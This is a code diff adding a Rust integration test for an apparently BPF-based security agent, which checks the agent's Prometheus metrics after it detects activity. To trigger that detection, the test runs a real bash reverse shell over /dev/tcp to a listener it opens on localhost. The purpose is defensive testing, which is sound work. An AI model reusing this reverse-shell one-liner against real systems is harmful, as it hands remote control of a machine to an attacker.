@@ -4,7 +4,7 @@
 mod common;
 
 use std::io::{BufRead as _, BufReader, Read as _, Write as _};
-use std::net::TcpStream;
+use std::net::{TcpListener, TcpStream};
 use std::process::{Child, Command, Stdio};
 use std::time::{Duration, Instant};
 
@@ -94,6 +94,35 @@ fn page(address: &str) -> String {
     text
 }
 
+/// What a page says, as somebody else's reader understands it.
+struct Scraped(prometheus_parse::Scrape);
+
+impl Scraped {
+    fn from(address: &str) -> Scraped {
+        let page = page(address);
+        let (head, body) = page.split_once("\r\n\r\n").unwrap();
+        assert!(head.to_lowercase().contains("content-type: text/plain; version=0.0.4"), "{head}");
+        Scraped(prometheus_parse::Scrape::parse(body.lines().map(|line| Ok(line.to_owned()))).unwrap())
+    }
+
+    /// The samples of a family: labels, whether it counts, and the value.
+    fn of(&self, family: &str) -> impl Iterator<Item = (&prometheus_parse::Labels, bool, f64)> {
+        let samples = self.0.samples.iter().filter(move |sample| sample.metric == family);
+        samples.map(|sample| match sample.value {
+            prometheus_parse::Value::Counter(value) => (&sample.labels, true, value),
+            prometheus_parse::Value::Gauge(value) => (&sample.labels, false, value),
+            ref other => panic!("{other:?}"),
+        })
+    }
+
+    fn value(&self, family: &str, labels: &[(&str, &str)]) -> f64 {
+        let right = |of: &prometheus_parse::Labels| labels.iter().all(|(name, text)| of.get(name) == Some(*text));
+        let found: Vec<_> = self.of(family).filter(|(of, _, _)| right(of)).map(|(_, _, value)| value).collect();
+        assert_eq!(found.len(), 1, "{family} {labels:?}");
+        found[0]
+    }
+}
+
 fn lines(path: &std::path::Path) -> Vec<Value> {
     let text = std::fs::read_to_string(path).unwrap();
     text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
@@ -144,11 +173,74 @@ fn what_happens_arrives_everywhere_without_secrets() {
 }
 
 #[test]
+fn a_scrape_says_what_was_found_what_waits_where_and_what_it_costs() {
+    if !privileged("a kernel with BTF and BPF ring buffers") {
+        return;
+    }
+    let folder = tempfile::tempdir().unwrap();
+    let spool = folder.path().join("spool");
+    let nobody = || TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+    let (bus, collector) = (format!("nats://{}", nobody()), format!("http://{}", nobody()));
+    let places = ["--nats", &bus, "--spool", spool.to_str().unwrap(), "--otlp", &collector, "--flush", "0s"];
+    let mut agent = Agent::start(&[&places[..], &["--metrics", "0"]].concat());
+    let metrics = agent.says("metrics: http://");
+    let address = metrics.trim_start_matches("metrics: http://").trim_end_matches("/metrics").to_owned();
+    agent.says("ready");
+    let shells = [("class", "reverse_shell"), ("severity", "critical")];
+    let first = Scraped::from(&address);
+    // A shell on a connection, to this test.
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let script = format!("exec bash -i <>/dev/tcp/127.0.0.1/{port} >&0 2>&0");
+    let mut shell = Command::new("bash").args(["-c", &script]).spawn().unwrap();
+    let (peer, _) = listener.accept().unwrap();
+    let began = Instant::now();
+    let last = loop {
+        let scraped = Scraped::from(&address);
+        let found = scraped.value("ktrace_findings_total", &shells) > first.value("ktrace_findings_total", &shells);
+        let waits = scraped.value("ktrace_feed_queue_lines", &[("feed", "otlp")]) >= 1.0
+            || scraped.value("ktrace_feed_retries_total", &[("feed", "otlp")]) >= 1.0;
+        if found && waits && scraped.value("ktrace_feed_spool_lines", &[("feed", "nats")]) >= 1.0 {
+            break scraped;
+        }
+        assert!(began.elapsed() < LATE, "{:?}", scraped.0.samples);
+        std::thread::sleep(Duration::from_millis(100));
+    };
+    drop(peer);
+    shell.wait().unwrap();
+    for (family, counter, labels, _) in FAMILIES {
+        let labels: Vec<_> = labels.split(", ").filter(|label| !label.is_empty()).collect();
+        assert!(last.0.docs.contains_key(*family), "{family}");
+        for (of, counts, _) in last.of(family) {
+            assert_eq!(counts, *counter, "{family}");
+            assert!(of.len() == labels.len() && labels.iter().all(|label| of.get(label).is_some()), "{family}: {of:?}");
+        }
+        for (of, _, before) in first.of(family).filter(|_| *counter) {
+            let same: Vec<_> = of.iter().map(|(name, text)| (name.as_str(), text.as_str())).collect();
+            assert!(last.value(family, &same) >= before, "{family} {of:?} went back");
+        }
+    }
+    let told = FAMILIES.iter().filter(|(family, ..)| last.of(family).next().is_some()).count();
+    assert_eq!(told, FAMILIES.len(), "each has a value");
+    assert_eq!(last.value("ktrace_feed_up", &[("feed", "nats")]), 0.0, "what waits on disk did not arrive");
+    assert_eq!(last.value("ktrace_feed_up", &[("feed", "otlp")]), 0.0);
+    assert_eq!(last.value("ktrace_status_ok", &[("topic", "source")]), 1.0);
+    assert_eq!(last.value("ktrace_status_ok", &[("topic", "nats")]), 0.0);
+    assert!(last.value("ktrace_feed_spool_bytes", &[("feed", "nats")]) > 100.0);
+    assert!(last.value("ktrace_processes", &[]) >= 2.0 && last.value("ktrace_incidents_total", &[]) >= 1.0);
+    let status = std::fs::read_to_string(format!("/proc/{}/status", agent.child.id())).unwrap();
+    let own = status.lines().find_map(|line| line.strip_prefix("VmRSS:")?.trim().strip_suffix(" kB")).unwrap();
+    let (own, said) = (own.parse::<f64>().unwrap() * 1024.0, last.value("process_resident_memory_bytes", &[]));
+    assert!((own / said - 1.0).abs() < 0.3, "{own} by the kernel, {said} by itself");
+    agent.stop();
+}
+
+#[test]
 fn a_collector_that_is_gone_does_not_hold_up_the_end() {
     if !privileged("a kernel with BTF and BPF ring buffers") {
         return;
     }
-    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let url = format!("http://{}", listener.local_addr().unwrap());
     drop(listener);
     let mut agent = Agent::start(&["--otlp", &url, "--flush", "500ms"]);
